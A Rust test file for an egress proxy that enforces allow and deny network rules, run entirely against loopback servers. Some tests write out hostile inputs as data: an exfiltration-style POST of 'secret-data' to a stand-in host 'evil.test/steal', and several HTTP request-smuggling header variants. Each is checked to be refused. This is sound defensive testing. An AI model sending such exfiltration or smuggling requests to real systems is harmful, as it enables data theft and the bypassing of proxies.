//! The proxy against real loopback servers, through a real client socket. Names resolve only
//! through the resolver's fixed answers: no test touches real DNS or any non-loopback address.
//!
//! Over 500 lines: the proxy's behaviour tests, one per rule, kept together with their servers.

use std::collections::HashMap;
use std::net::{IpAddr, SocketAddr};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio_util::sync::CancellationToken;

use super::*;
use crate::policy::NetTarget;

const LOCAL: IpAddr = IpAddr::V4(std::net::Ipv4Addr::LOCALHOST);

fn target(s: &str) -> NetTarget {
    let (host, port) = match s.rsplit_once(':') {
        Some((h, p)) if !h.contains(':') || h.ends_with(']') => {
            (h.trim_matches(['[', ']']).to_string(), Some(p.parse().unwrap()))
        }
        _ => (s.trim_matches(['[', ']']).to_string(), None),
    };
    NetTarget { host, port }
}

struct Proxy {
    addr: SocketAddr,
    events: EventLog,
    cancel: CancellationToken,
    task: tokio::task::JoinHandle<()>,
}

impl Proxy {
    async fn stop(self) -> Vec<NetEvent> {
        self.cancel.cancel();
        tokio::time::timeout(Duration::from_secs(5), self.task).await.expect("serve stops").unwrap();
        self.events.snapshot()
    }
}

async fn proxy_with(allow: &[&str], deny: &[&str], names: &[(&str, IpAddr)], options: ProxyOptions) -> Proxy {
    let allow: Vec<NetTarget> = allow.iter().map(|s| target(s)).collect();
    let deny: Vec<NetTarget> = deny.iter().map(|s| target(s)).collect();
    let mut map: HashMap<String, Vec<IpAddr>> = HashMap::new();
    for (n, a) in names {
        map.entry(n.to_string()).or_default().push(*a);
    }
    let proxy = Arc::new(
        EgressProxy::new(Arc::new(NetRules::new(&allow, &deny)), Arc::new(Resolver::fixed(map))).with_options(options),
    );
    let listener = TcpListener::bind((LOCAL, 0)).await.unwrap();
    let addr = listener.local_addr().unwrap();
    let cancel = CancellationToken::new();
    let events = proxy.events();
    let task = tokio::spawn(proxy.serve(listener, cancel.clone()));
    Proxy { addr, events, cancel, task }
}

async fn proxy(allow: &[&str], deny: &[&str], names: &[(&str, IpAddr)]) -> Proxy {
    proxy_with(allow, deny, names, ProxyOptions::default()).await
}

/// A TCP echo server; returns its port.
async fn echo_server() -> u16 {
    let l = TcpListener::bind((LOCAL, 0)).await.unwrap();
    let port = l.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = l.accept().await {
            tokio::spawn(async move {
                let (mut r, mut w) = s.split();
                let _ = tokio::io::copy(&mut r, &mut w).await;
            });
        }
    });
    port
}

/// A tiny HTTP/1.1 server: answers every request with `method path host body`, and keeps
/// each request head it saw.
async fn http_server() -> (u16, Arc<Mutex<Vec<String>>>) {
    let l = TcpListener::bind((LOCAL, 0)).await.unwrap();
    let port = l.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let seen2 = seen.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = l.accept().await {
            let seen = seen2.clone();
            tokio::spawn(async move {
                let Ok((head, mut rest)) = http::read_head(&mut s, 64 * 1024).await else {
                    return;
                };
                let head = String::from_utf8(head).unwrap();
                seen.lock().unwrap().push(head.clone());
                let mut lines = head.split("\r\n");
                let mut first = lines.next().unwrap().split(' ');
                let (method, path) = (first.next().unwrap().to_string(), first.next().unwrap().to_string());
                let mut host = String::new();
                let mut len = 0usize;
                for l in lines {
                    if let Some((n, v)) = l.split_once(':') {
                        match n.to_ascii_lowercase().as_str() {
                            "host" => host = v.trim().to_string(),
                            "content-length" => len = v.trim().parse().unwrap(),
                            _ => {}
                        }
                    }
                }
                while rest.len() < len {
                    let mut buf = vec![0u8; len - rest.len()];
                    let n = s.read(&mut buf).await.unwrap();
                    if n == 0 {
                        break;
                    }
                    rest.extend_from_slice(&buf[..n]);
                }
                let body = format!("{method} {path} {host} {}", String::from_utf8_lossy(&rest));
                let resp =
                    format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
                let _ = s.write_all(resp.as_bytes()).await;
                let _ = s.shutdown().await;
            });
        }
    });
    (port, seen)
}

/// A port with nothing listening on it.
async fn closed_port() -> u16 {
    let l = TcpListener::bind((LOCAL, 0)).await.unwrap();
    l.local_addr().unwrap().port()
}

/// Reads a response head from the proxy: (status, headers, bytes after the head).
async fn read_response_head(s: &mut TcpStream) -> (u16, Vec<(String, String)>, Vec<u8>) {
    let (head, rest) = tokio::time::timeout(Duration::from_secs(10), http::read_head(s, 64 * 1024))
        .await
        .expect("a response in time")
        .unwrap_or_else(|_| panic!("no response head"));
    let text = String::from_utf8(head).unwrap();
    let mut lines = text.trim_end().split("\r\n");
    let status_line = lines.next().unwrap();
    let status = status_line.split(' ').nth(1).unwrap().parse().unwrap();
    // The status line rides along as a pseudo-header.
    let mut headers = vec![(":status-line".to_string(), status_line.to_string())];
    headers
        .extend(lines.filter_map(|l| l.split_once(':')).map(|(n, v)| (n.to_ascii_lowercase(), v.trim().to_string())));
    (status, headers, rest)
}

fn header<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
    let name = name.to_ascii_lowercase();
    headers.iter().find(|(n, _)| *n == name).map(|(_, v)| v.as_str())
}

async fn read_to_end(s: &mut TcpStream, mut have: Vec<u8>) -> String {
    tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut have)).await.expect("EOF in time").unwrap();
    String::from_utf8(have).unwrap()
}

/// Sends `CONNECT target` and returns the stream with the response head.
async fn connect(proxy: &Proxy, target: &str) -> (TcpStream, u16, Vec<(String, String)>, Vec<u8>) {
    let mut s = TcpStream::connect(proxy.addr).await.unwrap();
    s.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes()).await.unwrap();
    let (status, headers, rest) = read_response_head(&mut s).await;
    (s, status, headers, rest)
}

/// Sends one raw request and returns the status, headers and body of the answer.
async fn request(proxy: &Proxy, raw: &str) -> (u16, Vec<(String, String)>, String) {
    let mut s = TcpStream::connect(proxy.addr).await.unwrap();
    s.write_all(raw.as_bytes()).await.unwrap();
    let (status, headers, rest) = read_response_head(&mut s).await;
    let body = read_to_end(&mut s, rest).await;
    (status, headers, body)
}

async fn echo_roundtrip(s: &mut TcpStream, data: &[u8]) {
    let (mut r, mut w) = s.split();
    let write = async {
        w.write_all(data).await.unwrap();
    };
    let read = async {
        let mut got = vec![0u8; data.len()];
        r.read_exact(&mut got).await.unwrap();
        got
    };
    let ((), got) = tokio::join!(write, read);
    assert!(got == data, "the tunnel changed the bytes");
}

#[tokio::test]
async fn connect_by_exact_name_tunnels_bytes_both_ways_and_counts_them() {
    let echo = echo_server().await;
    let p = proxy(&[&format!("api.test:{echo}")], &[], &[("api.test", LOCAL)]).await;
    let (mut s, status, _, rest) = connect(&p, &format!("api.test:{echo}")).await;
    assert_eq!(status, 200);
    assert!(rest.is_empty());
    echo_roundtrip(&mut s, b"hello").await;
    let big: Vec<u8> = (0..300_000u32).map(|i| (i % 251) as u8).collect();
    echo_roundtrip(&mut s, &big).await;
    drop(s);
    tokio::time::sleep(Duration::from_millis(50)).await;
    let events = p.stop().await;
    assert_eq!(events.len(), 1);
    let ev = &events[0];
    assert_eq!((ev.method.as_str(), ev.host.as_str(), ev.port), ("CONNECT", "api.test", echo));
    assert_eq!(ev.address, Some(LOCAL));
    assert!(ev.allowed && ev.reason.is_none(), "{ev:?}");
    assert_eq!(ev.bytes_sent, 5 + big.len() as u64);
    assert_eq!(ev.bytes_received, 5 + big.len() as u64);
}

#[tokio::test]
async fn connect_by_exact_ip_literal_including_ipv6_brackets() {
    let echo = echo_server().await;
    let p = proxy(&[&format!("127.0.0.1:{echo}")], &[], &[]).await;
    let (mut s, status, _, _) = connect(&p, &format!("127.0.0.1:{echo}")).await;
    assert_eq!(status, 200);
    echo_roundtrip(&mut s, b"by address").await;
    // The same address through its IPv4-mapped IPv6 form is the same destination.
    let (mut s, status, _, _) = connect(&p, &format!("[::ffff:127.0.0.1]:{echo}")).await;
    assert_eq!(status, 200);
    echo_roundtrip(&mut s, b"mapped").await;
    // A name that resolves to the allowed address is not the address: not named.
    let (_, status, headers, _) = connect(&p, &format!("localhost.test:{echo}")).await;
    assert_eq!(status, 403);
    assert_eq!(header(&headers, DENIED_HEADER), Some("not allowed by the policy (--allow-net)"));
    p.stop().await;

    if let Ok(l6) = TcpListener::bind("[::1]:0").await {
        let port = l6.local_addr().unwrap().port();
        tokio::spawn(async move {
            while let Ok((mut s, _)) = l6.accept().await {
                let _ = s.write_all(b"six").await;
            }
        });
        let p = proxy(&[&format!("[::1]:{port}")], &[], &[]).await;
        let (mut s, status, _, rest) = connect(&p, &format!("[::1]:{port}")).await;
        assert_eq!(status, 200);
        assert_eq!(read_to_end(&mut s, rest).await, "six");
        let events = p.stop().await;
        assert_eq!(events[0].target(), format!("[::1]:{port}"));
    }
}

#[tokio::test]
async fn another_port_of_an_allowed_host_is_refused_with_the_reason_header() {
    let echo = echo_server().await;
    let other = closed_port().await;
    let p = proxy(&[&format!("api.test:{echo}")], &[], &[("api.test", LOCAL)]).await;
    let (mut s, status, headers, rest) = connect(&p, &format!("api.test:{other}")).await;
    assert_eq!(status, 403);
    assert_eq!(header(&headers, DENIED_HEADER), Some("not allowed by the policy (--allow-net)"));
    assert_eq!(header(&headers, "connection"), Some("close"));
    assert_eq!(header(&headers, TARGET_HEADER), Some(format!("api.test:{other}").as_str()));
    let body = read_to_end(&mut s, rest).await;
    let message =
        format!("tool-runtime: connection to api.test:{other} refused: not allowed by the policy (--allow-net)");
    assert_eq!(body, format!("{message}\n"));
    assert_eq!(header(&headers, ":status-line"), Some(format!("HTTP/1.1 403 Forbidden [{message}]").as_str()));
    let events = p.stop().await;
    assert_eq!(events.len(), 1);
    assert!(!events[0].allowed);
    assert_eq!(events[0].address, None, "a refused name is not resolved");
    assert_eq!(events[0].reason.as_deref(), Some("not allowed by the policy (--allow-net)"));
}

#[tokio::test]
async fn unlisted_names_are_refused_and_reported_as_denied_hosts() {
    let echo = echo_server().await;
    let p = proxy(&["api.test"], &[], &[("api.test", LOCAL), ("evil.test", LOCAL)]).await;
    for _ in 0..2 {
        let (_, status, _, _) = connect(&p, "evil.test:443").await;
        assert_eq!(status, 403);
    }
    let (_, status, _, _) = connect(&p, &format!("api.test:{echo}")).await;
    assert_eq!(status, 200, "no port in the entry: any port");
    assert_eq!(p.events.denied_hosts(), vec!["evil.test:443".to_string()]);
    // A later call served by the same proxy sees only its own events.
    let start = p.events.len();
    let (_, status, _, _) = connect(&p, "other.test:80").await;
    assert_eq!(status, 403);
    let later = p.events.since(start);
    assert_eq!(denied_hosts(&later), vec!["other.test:80".to_string()]);
    let events = p.stop().await;
    assert_eq!(events.iter().filter(|e| !e.allowed).count(), 3);
}

#[tokio::test]
async fn a_name_resolving_to_loopback_needs_an_exact_entry() {
    let echo = echo_server().await;
    let p = proxy(&["*.svc.test", "db.svc.test"], &[], &[("db.svc.test", LOCAL), ("cache.svc.test", LOCAL)]).await;
    let (mut s, status, _, _) = connect(&p, &format!("db.svc.test:{echo}")).await;
    assert_eq!(status, 200, "named exactly");
    echo_roundtrip(&mut s, b"db").await;
    let (mut s, status, headers, rest) = connect(&p, &format!("cache.svc.test:{echo}")).await;
    assert_eq!(status, 403, "only a wildcard matches");
    let reason = header(&headers, DENIED_HEADER).unwrap().to_string();
    assert!(reason.contains("127.0.0.1") && reason.contains("loopback") && reason.contains("exact"), "{reason}");
    let body = read_to_end(&mut s, rest).await;
    assert!(body.starts_with(&format!("tool-runtime: connection to cache.svc.test:{echo} refused: ")), "{body}");
    let events = p.stop().await;
    let refused = events.iter().find(|e| e.host == "cache.svc.test").unwrap();
    assert_eq!((refused.allowed, refused.address), (false, Some(LOCAL)));
}

#[tokio::test]
async fn a_name_resolving_to_an_address_of_this_host_needs_an_exact_entry() {
    // 93.184.216.34 stands for a public address on one of this host's interfaces: the proxy
    // refuses it to a wildcard without connecting. (The allowed twins, an exact entry for the
    // name or the address, are in rules.rs and netallow.spec.ts, against a real address of
    // this host.)
    let public: IpAddr = "93.184.216.34".parse().unwrap();
    let rules = Arc::new(NetRules::new(&[target("*.svc.test")], &[]));
    let names = HashMap::from([("web.svc.test".to_string(), vec![public])]);
    let proxy = Arc::new(
        EgressProxy::new(rules, Arc::new(Resolver::fixed(names))).with_host_addrs(HostAddrs::fixed(vec![public])),
    );
    let listener = TcpListener::bind((LOCAL, 0)).await.unwrap();
    let cancel = CancellationToken::new();
    let p = Proxy {
        addr: listener.local_addr().unwrap(),
        events: proxy.events(),
        cancel: cancel.clone(),
        task: tokio::spawn(proxy.serve(listener, cancel)),
    };
    let (_, status, headers, _) = connect(&p, "web.svc.test:443").await;
    assert_eq!(status, 403);
    let reason = header(&headers, DENIED_HEADER).unwrap();
    assert!(reason.contains("93.184.216.34, a host interface address"), "{reason}");
    let events = p.stop().await;
    assert_eq!((events[0].allowed, events[0].address), (false, Some(public)));
}

#[tokio::test]
async fn smuggling_attempts_are_400_and_reach_no_server() {
    let (port, seen) = http_server().await;
    let p = proxy(&["api.test"], &[], &[("api.test", LOCAL)]).await;
    let url = format!("http://api.test:{port}/");
    for (extra, why) in [
        ("Content-Length: 3\r\nContent-Length: 3\r\n", "more than one Content-Length"),
        ("Content-Length: 3\r\nTransfer-Encoding: chunked\r\n", "both Content-Length and Transfer-Encoding"),
        ("Transfer-Encoding: chunked, identity\r\n", "must end with chunked"),
        ("Transfer-Encoding : chunked\r\n", "malformed header name"),
        ("X: 1\r\n Transfer-Encoding: chunked\r\n", "malformed header name"),
        ("X: 1\nContent-Length: 3\r\n", "bare LF"),
    ] {
        let raw = format!("POST {url} HTTP/1.1\r\nHost: api.test\r\n{extra}\r\nabc");
        let (status, _, body) = request(&p, &raw).await;
        assert_eq!(status, 400, "{raw:?}");
        assert!(body.contains(why), "{raw:?}: {body}");
    }
    assert!(seen.lock().unwrap().is_empty(), "a smuggling attempt reached the server");
    // The unambiguous twin is forwarded.
    let raw = format!("POST {url} HTTP/1.1\r\nHost: api.test\r\nContent-Length: 3\r\n\r\nabc");
    let (status, _, body) = request(&p, &raw).await;
    assert_eq!((status, body.as_str()), (200, format!("POST / api.test:{port} abc").as_str()));
    p.stop().await;
}

#[tokio::test]
async fn wildcards_match_names_below_never_the_name_itself() {
    let echo = echo_server().await;
    let p = proxy(
        &["*.example.test"],
        &[],
        &[("a.example.test", LOCAL), ("a.b.example.test", LOCAL), ("example.test", LOCAL), ("badexample.test", LOCAL)],
    )
    .await;
    for name in ["a.example.test", "a.b.example.test"] {
        let (_, status, headers, _) = connect(&p, &format!("{name}:{echo}")).await;
        // Allowed by the wildcard, refused for its loopback address: the rule matched.
        assert_eq!(status, 403);
        assert!(header(&headers, DENIED_HEADER).unwrap().contains("loopback"), "{name}");
    }
    for name in ["example.test", "badexample.test"] {
        let (_, status, headers, _) = connect(&p, &format!("{name}:{echo}")).await;
        assert_eq!(status, 403);
        assert_eq!(header(&headers, DENIED_HEADER), Some("not allowed by the policy (--allow-net)"), "{name}");
    }
    p.stop().await;
}

#[tokio::test]
async fn deny_beats_allow_by_name_by_port_and_by_resolved_address() {
    let echo = echo_server().await;
    let p = proxy(
        &["api.test", "other.test", "127.0.0.1"],
        &[&format!("api.test:{echo}"), "other.test"],
        &[("api.test", LOCAL)],
    )
    .await;
    let (_, status, headers, _) = connect(&p, &format!("api.test:{echo}")).await;
    assert_eq!(status, 403);
    assert_eq!(header(&headers, DENIED_HEADER), Some("denied by the policy (--deny-net)"));
    let (_, status, _, _) = connect(&p, "other.test:443").await;
    assert_eq!(status, 403);
    p.stop().await;

    // Denying an address covers names that resolve to it and its mapped form.
    let p = proxy(&["api.test", "[::ffff:127.0.0.1]"], &["127.0.0.1"], &[("api.test", LOCAL)]).await;
    for t in [format!("api.test:{echo}"), format!("[::ffff:127.0.0.1]:{echo}")] {
        let (_, status, headers, _) = connect(&p, &t).await;
        assert_eq!(status, 403, "{t}");
        assert_eq!(header(&headers, DENIED_HEADER), Some("denied by the policy (--deny-net)"));
    }
    p.stop().await;
}

#[tokio::test]
async fn plain_http_is_forwarded_in_origin_form() {
    let (port, seen) = http_server().await;
    let p = proxy(&[&format!("api.test:{port}")], &[], &[("api.test", LOCAL)]).await;
    let (status, _, body) = request(
        &p,
        &format!(
            "POST http://API.test:{port}/echo?x=1 HTTP/1.1\r\nHost: api.test:{port}\r\nProxy-Connection: keep-alive\r\n\
             Content-Length: 5\r\n\r\nhello"
        ),
    )
    .await;
    assert_eq!(status, 200);
    assert!(body.ends_with(&format!("POST /echo?x=1 api.test:{port} hello")), "{body}");
    let head = seen.lock().unwrap()[0].clone();
    assert!(head.starts_with("POST /echo?x=1 HTTP/1.1\r\nHost: api.test:"), "{head}");
    assert!(
        !head.to_ascii_lowercase().contains("proxy-connection") && head.contains("Connection: close\r\n"),
        "{head}"
    );
    let events = p.stop().await;
    assert_eq!(events.len(), 1);
    let ev = &events[0];
    assert_eq!((ev.method.as_str(), ev.allowed, ev.address), ("POST", true, Some(LOCAL)));
    assert_eq!(ev.bytes_sent, head.len() as u64 + 5);
    assert!(ev.bytes_received as usize > body.len(), "{ev:?}");
}

#[tokio::test]
async fn plain_http_refusals_are_403_with_the_reason() {
    let p = proxy(&["api.test"], &[], &[]).await;
    let (status, headers, body) =
        request(&p, "POST http://evil.test/steal HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 11\r\n\r\nsecret-data")
            .await;
    assert_eq!(status, 403);
    assert_eq!(header(&headers, DENIED_HEADER), Some("not allowed by the policy (--allow-net)"));
    assert_eq!(body, "tool-runtime: connection to evil.test:80 refused: not allowed by the policy (--allow-net)\n");
    let events = p.stop().await;
    assert_eq!((events[0].method.as_str(), events[0].port, events[0].allowed), ("POST", 80, false));
}

#[tokio::test]
async fn malformed_and_unsupported_requests_are_400() {
    let p = proxy(&["api.test"], &[], &[]).await;
    for raw in [
        "GET /origin-form HTTP/1.1\r\nHost: api.test\r\n\r\n",
        "GET https://api.test/ HTTP/1.1\r\n\r\n",
        "CONNECT api.test HTTP/1.1\r\n\r\n",
        "CONNECT 2130706433:443 HTTP/1.1\r\n\r\n",
        "hello\r\n\r\n",
    ] {
        let (status, headers, body) = request(&p, raw).await;
        assert_eq!(status, 400, "{raw:?}");
        assert!(header(&headers, DENIED_HEADER).is_none());
        assert!(body.starts_with("tool-runtime proxy: "), "{body}");
    }
    assert!(p.stop().await.is_empty(), "malformed requests name no destination");
}

#[tokio::test]
async fn oversized_and_slow_heads_are_cut_off() {
    let p = proxy_with(
        &["api.test"],
        &[],
        &[],
        ProxyOptions { head_timeout: Duration::from_millis(300), ..ProxyOptions::default() },
    )
    .await;
    let big = format!("GET http://api.test/ HTTP/1.1\r\nX-Big: {}\r\n\r\n", "a".repeat(20_000));
    let (status, _, _) = request(&p, &big).await;
    assert_eq!(status, 431);
    let mut s = TcpStream::connect(p.addr).await.unwrap();
    s.write_all(b"GET http://api.test/ HTTP/1.1\r\n").await.unwrap();
    let started = Instant::now();
    let (status, _, _) = read_response_head(&mut s).await;
    // The 408 is the head timeout's answer; it must not come before the timeout.
    assert_eq!(status, 408);
    assert!(started.elapsed() >= Duration::from_millis(250), "cut off after {:?}", started.elapsed());
    p.stop().await;
}

#[tokio::test]
async fn unreachable_allowed_destinations_are_502_with_an_errno_name() {
    let closed = closed_port().await;
    let p = proxy(&["api.test", "ghost.test"], &[], &[("api.test", LOCAL)]).await;
    let (mut s, status, headers, rest) = connect(&p, &format!("api.test:{closed}")).await;
    assert_eq!(status, 502);
    assert_eq!(header(&headers, ERROR_HEADER), Some("ECONNREFUSED"));
    assert!(header(&headers, DENIED_HEADER).is_none());
    let body = read_to_end(&mut s, rest).await;
    let prefix = format!(
        "tool-runtime: connection to api.test:{closed} failed (ECONNREFUSED): cannot connect to 127.0.0.1:{closed}"
    );
    assert!(body.starts_with(&prefix), "{body}");
    assert!(header(&headers, ":status-line").unwrap().starts_with(&format!("HTTP/1.1 502 Bad Gateway [{prefix}")));
    let (_, status, headers, _) = connect(&p, "ghost.test:443").await;
    assert_eq!(status, 502);
    assert_eq!(header(&headers, ERROR_HEADER), Some("ENOTFOUND"));
    let events = p.stop().await;
    assert!(events.iter().all(|e| e.allowed && e.reason.is_some()), "{events:?}");
}

#[tokio::test]
async fn early_bytes_after_connect_are_forwarded() {
    let echo = echo_server().await;
    let p = proxy(&["api.test"], &[], &[("api.test", LOCAL)]).await;
    let mut s = TcpStream::connect(p.addr).await.unwrap();
    s.write_all(format!("CONNECT api.test:{echo} HTTP/1.1\r\n\r\nearly").as_bytes()).await.unwrap();
    let (status, _, mut rest) = read_response_head(&mut s).await;
    assert_eq!(status, 200);
    while rest.len() < 5 {
        let mut b = [0u8; 16];
        let n = s.read(&mut b).await.unwrap();
        assert!(n > 0);
        rest.extend_from_slice(&b[..n]);
    }
    assert_eq!(rest, b"early");
    p.stop().await;
}

#[tokio::test]
async fn cancelling_stops_serving_and_closes_open_tunnels() {
    let echo = echo_server().await;
    let p = proxy(&["api.test"], &[], &[("api.test", LOCAL)]).await;
    let (mut s, status, _, _) = connect(&p, &format!("api.test:{echo}")).await;
    assert_eq!(status, 200);
    echo_roundtrip(&mut s, b"0123456789").await;
    let addr = p.addr;
    let events = p.stop().await;
    assert_eq!((events[0].bytes_sent, events[0].bytes_received), (10, 10), "counts survive the abort");
    let mut b = [0u8; 1];
    let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut b)).await.expect("closed in time");
    assert!(matches!(n, Ok(0) | Err(_)), "the tunnel is closed");
    assert!(TcpStream::connect(addr).await.is_err(), "the listener is closed");
}

#[tokio::test]
async fn many_tunnels_at_once() {
    let echo = echo_server().await;
    let p = proxy(&["api.test"], &[], &[("api.test", LOCAL)]).await;
    let mut tasks = Vec::new();
    for i in 0..64u32 {
        let target = format!("api.test:{echo}");
        let addr = p.addr;
        tasks.push(tokio::spawn(async move {
            let mut s = TcpStream::connect(addr).await.unwrap();
            s.write_all(format!("CONNECT {target} HTTP/1.1\r\n\r\n").as_bytes()).await.unwrap();
            let (status, _, _) = read_response_head(&mut s).await;
            assert_eq!(status, 200);
            echo_roundtrip(&mut s, format!("conn {i}").as_bytes()).await;
        }));
    }
    for t in tasks {
        t.await.unwrap();
    }
    assert_eq!(p.stop().await.len(), 64);
}

/// Proxy overhead: round trips and throughput through a tunnel against the same server
/// direct. Run with `cargo test -p tool-runtime-core --release egress::tests::overhead -- --ignored --nocapture`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore]
async fn overhead() {
    let echo = echo_server().await;
    let p = proxy(&["api.test"], &[], &[("api.test", LOCAL)]).await;
    const ROUNDS: u32 = 2000;
    let rtt = |mut s: TcpStream| async move {
        let _ = s.set_nodelay(true);
        let started = Instant::now();
        let mut b = [0u8; 64];
        for _ in 0..ROUNDS {
            s.write_all(&[7u8; 64]).await.unwrap();
            s.read_exact(&mut b).await.unwrap();
        }
        started.elapsed() / ROUNDS
    };
    let direct = rtt(TcpStream::connect((LOCAL, echo)).await.unwrap()).await;
    let (s, _, _, _) = connect(&p, &format!("api.test:{echo}")).await;
    let tunneled = rtt(s).await;
    let setup = {
        let started = Instant::now();
        for _ in 0..200 {
            let (s, status, _, _) = connect(&p, &format!("api.test:{echo}")).await;
            assert_eq!(status, 200);
            drop(s);
        }
        started.elapsed() / 200
    };
    let direct_setup = {
        let started = Instant::now();
        for _ in 0..200 {
            drop(TcpStream::connect((LOCAL, echo)).await.unwrap());
        }
        started.elapsed() / 200
    };
    let bulk = |mut s: TcpStream| async move {
        let data = vec![1u8; 64 * 1024 * 1024];
        let started = Instant::now();
        echo_roundtrip(&mut s, &data).await;
        (data.len() as f64 / 1e6) / started.elapsed().as_secs_f64()
    };
    let direct_mb = bulk(TcpStream::connect((LOCAL, echo)).await.unwrap()).await;
    let (s, _, _, _) = connect(&p, &format!("api.test:{echo}")).await;
    let tunneled_mb = bulk(s).await;
    println!("round trip (64 B): direct {direct:?}, tunneled {tunneled:?}");
    println!("connection setup: direct {direct_setup:?}, CONNECT via proxy {setup:?}");
    println!("echo throughput: direct {direct_mb:.0} MB/s, tunneled {tunneled_mb:.0} MB/s");
    p.stop().await;
}
